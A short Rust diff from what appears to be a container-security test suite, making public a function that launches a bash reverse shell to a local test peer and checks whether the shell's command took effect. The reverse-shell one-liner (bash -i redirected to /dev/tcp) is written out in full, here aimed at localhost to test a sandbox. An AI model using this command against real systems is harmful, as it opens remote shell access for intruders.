@@ -92,7 +92,7 @@ pub fn kernel_half_missing() -> Result<()> {
 }
 
 /// One reverse shell in the container; tells whether the attacker's command ran.
-fn attack_works(container: &Container) -> Result<bool> {
+pub fn attack_works(container: &Container) -> Result<bool> {
     let peer = Peer::shell(container.listen()?, "touch /tmp/effect\nexit\n", Duration::from_secs(3))?;
     container.run(&format!("rm -f /tmp/effect; bash -c 'bash -i >& /dev/tcp/127.0.0.1/{} 0>&1'", peer.port))?;
     Ok(container.path("/tmp/effect").exists())
